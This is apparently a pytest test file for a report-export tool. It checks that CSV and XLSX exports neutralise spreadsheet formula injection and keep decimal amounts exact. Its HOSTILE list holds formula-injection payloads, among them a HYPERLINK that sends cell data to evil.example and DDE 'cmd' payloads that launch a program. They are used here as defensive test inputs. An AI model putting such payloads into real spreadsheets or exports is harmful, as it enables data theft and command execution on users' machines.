"""Exports a spreadsheet cannot be turned against its user, and amounts with every digit.

A report's organ, file name or error is text nobody checked: written into CSV or XLSX it must
never become a formula (`=HYPERLINK(...)` is a live link in Excel, `@SUM(...)` runs). Numbers
stay numbers (a negative 本年增减 is -2, not text), and an amount comes back with every digit
it was printed with.
"""

from __future__ import annotations

import csv
import json
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest

from nianbao.cli import main
from nianbao.pipeline.safe_values import FORMULA_LEADS, csv_field, is_number_literal
from nianbao.store import open_store
from tests.pipeline_fixtures import extraction, gold, outcome

HOSTILE = [
    '=HYPERLINK("http://evil.example/steal?d="&A1,"click")',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
BIG = Decimal("98765432109.87654321")
AMOUNT_KEY = "t2.procurement.amount_wan"


@pytest.fixture
def db(tmp_path: Path) -> Path:
    """One report per hostile text, used as its organ and its file name; one huge amount."""
    path = tmp_path / "store.db"
    with open_store(path) as store:
        run = store.begin_run("parser", "fp", {})
        for n, text in enumerate(HOSTILE):
            report = gold("seed-004")
            report = report.model_copy(
                update={"meta": report.meta.model_copy(update={"organ": text})}
            )
            ex = extraction(report, t2__fees__change=-2)
            ex.report.cells[AMOUNT_KEY] = BIG
            store.save_outcome(run, "fp", outcome(f"{text}{n}.txt", {"parser": ex}))
    return path


def _export(db: Path, fmt: str, out: Path) -> None:
    assert main(["export", "--format", fmt, "--db", str(db), "--out", str(out)]) == 0


def test_csv_fields_that_lead_with_a_formula_character_are_quoted(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    _export(db, "csv", out)
    for table in ("reports.csv", "cells.csv"):
        with (out / table).open(encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.DictReader(handle))
        for row in rows:
            for name, field in row.items():
                if field.startswith(FORMULA_LEADS):
                    assert is_number_literal(field), (table, name, field)
    with (out / "reports.csv").open(encoding="utf-8-sig", newline="") as handle:
        wide = list(csv.DictReader(handle))
    with open_store(db) as store:  # the store tidies an organ's spaces: compare with it
        stored = sorted(s.organ or "" for s in store.queue(status=None))
    assert all(o.startswith(FORMULA_LEADS) for o in stored)
    assert sorted(r["organ"] for r in wide) == ["'" + o for o in stored]
    assert all(r["source_name"].startswith("'") for r in wide)
    assert {r["t2.fees.change"] for r in wide} == {"-2"}  # a number, as printed
    assert {r[AMOUNT_KEY] for r in wide} == {str(BIG)}


def test_csv_field_rules() -> None:
    assert csv_field(-2) == "-2" and csv_field(Decimal("-0.5")) == "-0.5"
    assert csv_field("-2") == "-2" and csv_field("+3.25") == "+3.25"  # numbers as text
    assert csv_field("-2+3") == "'-2+3" and csv_field("=1") == "'=1"
    assert csv_field(None) == "" and csv_field("平潭") == "平潭"


def test_xlsx_writes_text_cells_never_formulas(db: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "out"
    _export(db, "xlsx", out)
    for table in ("reports.xlsx", "cells.xlsx"):
        with zipfile.ZipFile(out / table) as book:
            sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
        assert "<f>" not in sheet and "<f " not in sheet, table  # no formula anywhere
    rows = list(load_workbook(out / "reports.xlsx")["data"].iter_rows())
    head = [c.value for c in rows[0]]
    col = {name: head.index(name) for name in ("organ", "source_name", "t2.fees.change")}
    with open_store(db) as store:
        stored = sorted(s.organ or "" for s in store.queue(status=None))
    organs = sorted(r[col["organ"]].value for r in rows[1:])
    assert organs == stored  # the text itself, untouched, as a string cell
    for r in rows[1:]:
        assert r[col["organ"]].data_type == "s" and r[col["source_name"]].data_type == "s"
        assert r[col["organ"]].quotePrefix  # editing the cell in Excel keeps it text
        change = r[col["t2.fees.change"]]
        assert change.value == -2 and change.data_type == "n"  # a number stays a number


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet", "xlsx"])
def test_an_amount_keeps_every_printed_digit(fmt: str, db: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    _export(db, fmt, out)
    path = out / f"reports.{fmt}"
    if fmt == "csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            values = [r[AMOUNT_KEY] for r in csv.DictReader(handle)]
    elif fmt == "jsonl":
        values = [json.loads(line)[AMOUNT_KEY] for line in path.read_text("utf-8").splitlines()]
        assert all(isinstance(v, str) for v in values)  # a float would round it
    elif fmt == "parquet":
        import pyarrow.parquet as pq

        values = pq.read_table(path).column(AMOUNT_KEY).to_pylist()
    else:
        from openpyxl import load_workbook

        rows = list(load_workbook(path)["data"].iter_rows(values_only=True))
        values = [r[rows[0].index(AMOUNT_KEY)] for r in rows[1:]]
    assert values and all(Decimal(str(v)) == BIG for v in values), values
    # the long table too: the value column is the exact text
    cells = out / f"cells.{fmt}"
    if fmt == "jsonl":
        long = [json.loads(x) for x in cells.read_text("utf-8").splitlines()]
        assert {r["value"] for r in long if r["key"] == AMOUNT_KEY} == {str(BIG)}


def test_an_amount_a_float_holds_exactly_is_a_number_in_xlsx(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = tmp_path / "store.db"
    with open_store(path) as store:
        run = store.begin_run("parser", "fp", {})
        ex = extraction(gold("seed-004"))
        ex.report.cells[AMOUNT_KEY] = Decimal("373.9265")
        store.save_outcome(run, "fp", outcome("a.txt", {"parser": ex}))
    _export(path, "xlsx", tmp_path / "out")
    rows = list(load_workbook(tmp_path / "out" / "reports.xlsx")["data"].iter_rows())
    cell = rows[1][[c.value for c in rows[0]].index(AMOUNT_KEY)]
    assert cell.data_type == "n" and Decimal(str(cell.value)) == Decimal("373.9265")
